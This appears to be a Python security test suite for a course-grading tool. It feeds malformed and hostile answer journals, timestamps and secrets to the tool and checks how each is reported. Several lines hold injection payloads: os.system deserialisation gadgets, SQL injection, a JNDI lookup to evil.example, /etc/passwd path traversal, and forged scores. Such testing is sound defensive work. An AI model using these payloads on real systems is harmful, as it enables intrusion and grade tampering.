"""Attacks through the journal, the hand-in time and the secret."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from b12course.bank.learner_view import variant_number
from b12course.learner import journal
from tests.classroom.attacks.registry import (
    HOSTILE,
    NOTE,
    ODD,
    SERIOUS,
    add,
    bank,
    best,
    line,
    moment,
    nested,
    of_type,
    replace,
    reported,
    silent,
    wrong_answers,
)

PASSED_OVER = "it was passed over"
UNREADABLE = "The saved answer could not be read"


def raw(item: str, value: str, **fields: str) -> bytes:
    """Return a line with a value as JSON text, which ``json.dumps`` might not write."""
    data = {"v": "1", "n": "200", "t": f'"{moment()}"', "item": f'"{item}"', **fields, "value": value}
    return ("{" + ", ".join(f'"{k}": {v}' for k, v in data.items()) + "}\n").encode("utf-8", "surrogatepass")


def each(values: dict[str, Any], **fields: Any) -> list[bytes]:
    return [line(i, v, **fields) for i, v in values.items()]


# -- lines that can't be read ------------------------------------------------------------------


@reported(ODD, PASSED_OVER)
def attack_garbage_lines(folder: Path, mark: Path) -> None:
    add(folder, b"\x00\xff\xfe\n", b"}{\n", b"null\n", b'"x"\n', b"[]\n", b"\x1b[2J\n", bytes(range(256)) + b"\n")


@reported(ODD, "has version 2; this course reads version 1")
def attack_an_unknown_version(folder: Path, mark: Path) -> None:
    add(folder, *each(best(), v=2))


@reported(ODD, "has version True")
def attack_true_for_a_version(folder: Path, mark: Path) -> None:
    add(folder, *each(best(), v=True))


@reported(ODD, PASSED_OVER)
def attack_versions_that_are_no_number(folder: Path, mark: Path) -> None:
    versions = ["null", '"1"', "[1]", "1e999", nested(500), '"\\u001b[31m\\n' + "x" * 500 + '"', "9" * 4000]
    add(folder, *[raw(i, json.dumps(v), v=w) for w in versions for i, v in best().items()])


@reported(ODD, "has missing or wrong fields")
def attack_huge_and_negative_counts(folder: Path, mark: Path) -> None:
    counts: list[Any] = [2**53, 10**300, -1, 1.5, True, "7", None, [1], ...]
    add(folder, *[b for n in counts for b in each(best(), n=n)])


@reported(SERIOUS, "has more than 50,000 lines and was not read")
def attack_a_million_lines(folder: Path, mark: Path) -> None:
    replace(folder, b"x\n" * 1_000_000)


@reported(SERIOUS, "has more than 50,000 lines and was not read")
def attack_two_million_empty_lines(folder: Path, mark: Path) -> None:
    add(folder, b"\n" * 1_900_000)


@reported(ODD, "is longer than 64 KiB")
def attack_a_line_too_long(folder: Path, mark: Path) -> None:
    text = line("sites-01", best()["sites-01"], pad="")[:-3]
    add(folder, text + b"x" * (journal.LONGEST_LINE + 1 - len(text) - 2) + b'"}\n')


@reported(SERIOUS, "is larger than 2 MiB and was not read")
def attack_a_journal_too_large(folder: Path, mark: Path) -> None:
    good = b"".join(each(best()))
    replace(folder, good + b" " * (journal.LARGEST_JOURNAL + 1 - len(good)))


@reported(SERIOUS, "is larger than 2 MiB and was not read")
def attack_a_sparse_terabyte_of_journal(folder: Path, mark: Path) -> None:
    with (folder / journal.NAME).open("ab") as f:
        f.truncate(1 << 40)


@reported(ODD, "is torn or not JSON")
def attack_numbers_that_json_does_not_have(folder: Path, mark: Path) -> None:
    numeric, syringe, hotspot = (of_type(t).id for t in ("numeric", "syringe", "hotspot"))
    for value in ("NaN", "Infinity", "-Infinity"):
        add(folder, raw(numeric, f'{{"value": {value}, "unit": "mL"}}'), raw(syringe, value))
        add(folder, raw(hotspot, f"[{value}, {value}]"))


@reported(ODD, "is torn or not JSON")
def attack_numbers_that_overflow(folder: Path, mark: Path) -> None:
    numeric, syringe, hotspot = (of_type(t).id for t in ("numeric", "syringe", "hotspot"))
    add(folder, raw(numeric, '{"value": 1e999, "unit": "mL"}'), raw(syringe, "-1e999"), raw(hotspot, "[1e999, 9e999]"))


@reported(ODD, "is torn or not JSON")
def attack_numbers_of_five_thousand_digits(folder: Path, mark: Path) -> None:
    add(folder, raw(of_type("syringe").id, "1" * 5000), raw("sites-01", "1", n="1" * 5000))


@reported(ODD, UNREADABLE)
def attack_amounts_of_four_thousand_digits(folder: Path, mark: Path) -> None:
    """Python reads whole numbers of up to 4,300 digits, and can't make a float of them."""
    huge = "9" * 4000
    numeric, syringe, hotspot = (of_type(t).id for t in ("numeric", "syringe", "hotspot"))
    add(folder, raw(numeric, f'{{"value": {huge}, "unit": "mL"}}'), raw(syringe, huge), raw(hotspot, f"[{huge}, 0]"))


@reported(ODD, "is torn or not JSON")
def attack_answers_nested_thirty_thousand_deep(folder: Path, mark: Path) -> None:
    add(folder, *[raw(i.id, nested(30_000)) for i in bank()])


@reported(ODD, PASSED_OVER)
def attack_answers_nested_to_the_brink(folder: Path, mark: Path) -> None:
    add(folder, *[raw(i.id, nested(depth)) for i in bank() for depth in (900, 500)])


@reported(ODD, PASSED_OVER)
def attack_a_journal_in_utf_16(folder: Path, mark: Path) -> None:
    replace(folder, b"".join(each(best())).decode().encode("utf-16"))


@reported(ODD, PASSED_OVER)
def attack_invalid_utf_8(folder: Path, mark: Path) -> None:
    add(folder, *[raw(i, json.dumps(v)).replace(b'"item"', b'"it\xedem"') for i, v in best().items()])
    add(folder, b"\xed\xa0\x80\n", b"\xf8\x88\x80\x80\x80\n", b"\xc0\xae\n")


@reported(ODD, "has missing or wrong fields")
def attack_fields_of_other_shapes(folder: Path, mark: Path) -> None:
    wrong: list[dict[str, Any]] = [
        {"item": ["sites-01"]},
        {"item": None},
        {"item": 1},
        {"t": 5},
        {"t": ...},
        {"of": 1},
        {"of": []},
        {"variant": -1},
        {"variant": 0.5},
        {"variant": True},
        {"variant": "0"},
        {"variant": 2**53},
        {"flag": True},
        {"value": ...},
    ]
    add(folder, *[line("sites-01", best()["sites-01"], **fields) for fields in wrong])


@reported(ODD, PASSED_OVER)
def attack_forged_flags_and_steps(folder: Path, mark: Path) -> None:
    wrong: list[Any] = [{"points": 9}, 1, None, "x", [], -1, 2**70]
    add(folder, *[line("sites-13", ..., flag=v) for v in wrong], *[line("sites-13", ..., step=v) for v in wrong])


# -- lines that can be read --------------------------------------------------------------------


@silent("the last of two equal names counts, in every line alike; no answer is hidden by it")
def attack_names_that_stand_twice(folder: Path, mark: Path) -> None:
    """JSON lets a name stand twice: a reader that took the first would see other answers than this one."""
    good, bad = best(), wrong_answers(bank())
    text = [
        f'{{"v":1,"n":300,"t":"{moment()}","item":"{i}","value":{json.dumps(good[i])},"value":{json.dumps(bad[i])}}}\n'
        for i in good
    ]
    add(folder, "".join(text).encode())


@reported(ODD, "holds answers to 6 questions that are not in this assignment")
def attack_unknown_items(folder: Path, mark: Path) -> None:
    names = ["routes-01", "sites-99", "sites-13-1", "", "check-sites-14", "__class__"]
    add(folder, *each(dict.fromkeys(names, "a")))


@reported(ODD, "questions that are not in this assignment")
def attack_item_names_with_tricks(folder: Path, mark: Path) -> None:
    tricks = ["../../{}", "{}\x00", " {}", "{}\n", "./{}", "{}.yaml", "/assessments/items/{}", "{}\u200b", "\uff53{}"]
    add(folder, *[line(t.format(i), v) for t in tricks for i, v in best().items()])
    add(folder, *[line(i.upper(), v) for i, v in best().items()])


@reported(ODD, UNREADABLE)
def attack_answers_of_another_shape(folder: Path, mark: Path) -> None:
    shapes: list[Any] = [0, "", [], {}, True, [[]], [{}], {"a": []}, {"": ""}, [None], {"a": None}, "a\x00"]
    add(folder, *[line(i.id, s) for i in bank() for s in [*shapes, {"points": 100, "score": 100}]])


@reported(ODD, UNREADABLE)
def attack_answers_in_a_cover(folder: Path, mark: Path) -> None:
    add(folder, *[line(i, {"value": v, "points": 100, "correct": True}) for i, v in best().items()])


@reported(ODD, UNREADABLE)
def attack_best_answers_as_text(folder: Path, mark: Path) -> None:
    add(folder, *[line(i, json.dumps(v)) for i, v in best().items() if of(i) != "text"])


def of(item_id: str) -> str:
    return next(i.type for i in bank() if i.id == item_id)


@reported(ODD, UNREADABLE)
def attack_options_of_other_items(folder: Path, mark: Path) -> None:
    items = [i for i in bank() if i.type != "text"]
    add(folder, *[line(i.id, items[n - 1].best()) for n, i in enumerate(items) if i.type != items[n - 1].type])


@reported(ODD, UNREADABLE)
def attack_a_number_as_text(folder: Path, mark: Path) -> None:
    numeric, syringe = of_type("numeric"), of_type("syringe")
    add(folder, line(numeric.id, {"value": "1.5", "unit": "mL"}), line(syringe.id, str(syringe.best())))


@reported(ODD, UNREADABLE)
def attack_true_for_a_number(folder: Path, mark: Path) -> None:
    add(folder, line(of_type("numeric").id, {"value": True, "unit": "mL"}), line(of_type("syringe").id, True))
    add(folder, line(of_type("hotspot").id, [True, False]))


@reported(ODD, UNREADABLE)
def attack_negative_amounts(folder: Path, mark: Path) -> None:
    numeric, syringe = of_type("numeric"), of_type("syringe")
    add(folder, line(numeric.id, {"value": -1.5, "unit": "mL"}), line(syringe.id, -syringe.best()))


@reported(ODD, UNREADABLE)
def attack_points_off_the_picture(folder: Path, mark: Path) -> None:
    x, y = of_type("hotspot").best()
    add(folder, *[line(of_type("hotspot").id, at) for at in ([x + 1, y], [-x, y], [x, y, 1], [x], [1e300, 0])])


@reported(ODD, UNREADABLE)
def attack_more_choices_than_there_is_room_for(folder: Path, mark: Path) -> None:
    bowtie = of_type("bowtie")
    wide = {**bowtie.best(), "actions": list("abcde"), "parameters": list("abcde")}
    case = of_type("case").best()
    numbered = of_type("case").numbered()
    select = next(n for n, i in numbered.items() if i.type == "select_n")
    add(folder, line(bowtie.id, wide), line("sites-13", {**case, select: [*numbered[select].options]}))


@reported(ODD, UNREADABLE)
def attack_one_choice_many_times(folder: Path, mark: Path) -> None:
    """A hit counted once for each time it is named."""
    several = of_type("multiple")
    order = of_type("order")
    add(folder, line(several.id, several.key[:1] * 9), line(order.id, order.key + order.key))


@reported(ODD, UNREADABLE)
def attack_a_case_with_points(folder: Path, mark: Path) -> None:
    case = of_type("case")
    forged = {n: {"value": v, "points": 99, "max_points": 1} for n, v in case.best().items()}
    add(folder, line(case.id, {**forged, "points": 100}))


@reported(ODD, UNREADABLE)
def attack_a_case_with_more_questions(folder: Path, mark: Path) -> None:
    case = of_type("case")
    more = {**case.best(), "7": "a", "0": "a", "-1": "a", "01": "a"}
    add(folder, line(case.id, more), line(case.id, list(case.best().values())), line(case.id, {**case.best(), "7": 1}))


@silent("fields that the journal does not have are not looked at")
def attack_points_in_the_lines(folder: Path, mark: Path) -> None:
    forged = {"points": 100, "score": 100, "max_points": 1, "correct": True, "grade": 1.0, "kind": "score"}
    add(folder, *each(wrong_answers(bank()), **forged))


@reported(ODD, "was answered with another learner's numbers in")
def attack_a_variant_beyond_all(folder: Path, mark: Path) -> None:
    """Numbers wrap around: every number is one of the sets that the item has."""
    add(folder, line(of_type("numeric").id, {"value": 77, "unit": "mL"}, variant=2**53 - 1))
    add(folder, line("sites-01", wrong_answers(bank())["sites-01"], variant=12345))


@reported(ODD, "was answered with another learner's numbers in")
def attack_another_learners_numbers(folder: Path, mark: Path) -> None:
    """The numbers that an answer was given to are the journal's word: here the answer of one set under another."""
    numeric = of_type("numeric")
    key = numeric.variant(0).answer()
    mine = variant_number(numeric.id, folder.parent.name, numeric.variants())
    other = next(n for n in range(numeric.variants()) if n != mine and numeric.variant(n).answer() != key)
    add(folder, line(numeric.id, {"value": key, "unit": numeric.unit}, variant=other))


@reported(ODD, "The wording of this question changed after it was answered")
def attack_a_forged_version_of_the_item(folder: Path, mark: Path) -> None:
    add(folder, *each(wrong_answers(bank()), of="0" * 12))


@reported(ODD, "The wording of this question changed after it was answered")
def attack_a_version_with_markup(folder: Path, mark: Path) -> None:
    add(folder, *each(wrong_answers(bank()), of="<script>\x1b[31m\ud800" + "x" * 1000))


@silent("when an answer was given is the journal's own word and earns nothing")
def attack_times_that_make_no_sense(folder: Path, mark: Path) -> None:
    times = ["", "9999-99-99", "\x1b[31m", "\ud800", "x" * 10_000, "-1", "<script>"]
    add(folder, *[line("sites-01", wrong_answers(bank())["sites-01"], t=t) for t in times])


@silent("it is an answer: a person marks it, and it is shown as written")
def attack_markup_in_a_text_answer(folder: Path, mark: Path) -> None:
    add(folder, *[line(of_type("text").id, text) for text in HOSTILE.values()])


@silent("it is an answer: a person marks it; halves of characters are shown as ?")
def attack_surrogates_and_control_characters(folder: Path, mark: Path) -> None:
    add(folder, line(of_type("text").id, HOSTILE["surrogates"] + HOSTILE["control"]))
    add(folder, line(of_type("numeric").id, {"value": 77, "unit": "mL", "entered": "\ud800\x1b[31m<b>7\u202e"}))


@reported(ODD, "the answer has 8,001 characters; at most 8,000 fit")
def attack_a_text_too_long(folder: Path, mark: Path) -> None:
    add(folder, line(of_type("text").id, "x" * 8001))


@reported(ODD, "what was typed must be a short text")
def attack_a_typed_number_too_long(folder: Path, mark: Path) -> None:
    add(folder, line(of_type("numeric").id, {"value": 77, "unit": "mL", "entered": "7" * 41}))


@silent("the last one counts")
def attack_thousands_of_answers(folder: Path, mark: Path) -> None:
    bad = wrong_answers(bank())
    good = best()["sites-01"]
    add(folder, *[line("sites-01", good, n) for n in range(8000)], line("sites-01", bad["sites-01"]))


@silent("the text that counts is short; the repeated ones were answers before it")
def attack_repeated_texts_that_would_pack_well(folder: Path, mark: Path) -> None:
    add(folder, *[line(of_type("text").id, "0" * 8000) for _ in range(200)], line(of_type("text").id, "x"))


@reported(ODD, "could not be read")
def attack_other_languages_tricks(folder: Path, mark: Path) -> None:
    tricks: list[Any] = [
        {"__class__": "Score", "points": 100},
        {"py/object": "os.system", "py/reduce": [f"touch {mark}"]},
        {"$ref": "#/answers/key"},
        f"!!python/object/apply:os.system ['touch {mark}']",
        f"__import__('os').system('touch {mark}')",
        "' or '1'='1",
        "${jndi:ldap://evil.example/x}",
    ]
    add(folder, *[line(i.id, t) for t in tricks for i in bank() if i.type != "text"])


@reported(NOTE, "no answers were handed in")
def attack_takes_the_answers_away(folder: Path, mark: Path) -> None:
    (folder / journal.NAME).unlink()


# -- the hand-in time and the secret -----------------------------------------------------------

NO_TIME = "holds no time that can be read, so the hand-in time is unknown"


def at(folder: Path, text: str) -> None:
    (folder / "timestamp.txt").write_text(text, encoding="utf-8")


@silent("a time in the past can't be told from a true one: nbgrader has it from the learner's own computer")
def attack_an_early_time(folder: Path, mark: Path) -> None:
    at(folder, "2001-01-01 00:00:00.000000 UTC")


@reported(ODD, NO_TIME)
def attack_a_garbage_time(folder: Path, mark: Path) -> None:
    at(folder, "yesterday, \x1b[31mreally\nupdate grade set manual_score=99")


@reported(ODD, NO_TIME)
def attack_a_time_of_four_thousand_digits(folder: Path, mark: Path) -> None:
    at(folder, "9" * 4000)


@reported(SERIOUS, "timestamp.txt: is too large")
def attack_a_time_of_ten_million_digits(folder: Path, mark: Path) -> None:
    at(folder, "9" * 10_000_000)


@reported(ODD, NO_TIME)
def attack_a_time_zone_that_is_a_file(folder: Path, mark: Path) -> None:
    """dateutil looks time zones up as files, and fails in its own way on a bad one."""
    zone = folder / "zone"
    zone.write_bytes(b"TZif")
    at(folder, f"2026-11-20 10:00:00 {zone}")


@reported(ODD, NO_TIME)
def attack_a_time_zone_out_of_its_folder(folder: Path, mark: Path) -> None:
    at(folder, "2026-11-20 10:00:00 ../../../etc/passwd")


@reported(ODD, NO_TIME)
def attack_a_time_zone_beyond_all(folder: Path, mark: Path) -> None:
    at(folder, "9999-12-31 23:59:59 -99999999999999999999")


@reported(ODD, "says that it was handed in at a time still to come")
def attack_a_time_to_come(folder: Path, mark: Path) -> None:
    at(folder, "9999-12-31 00:00:00.000000 UTC")


@reported(SERIOUS, "submission_secret.txt: is too large")
def attack_a_secret_too_large(folder: Path, mark: Path) -> None:
    (folder / "submission_secret.txt").write_text("x" * 5000, encoding="utf-8")


@silent("the secret only names the learner's own feedback")
def attack_a_secret_with_a_path(folder: Path, mark: Path) -> None:
    (folder / "submission_secret.txt").write_bytes(b"../../../etc/passwd\x00\n\xff")
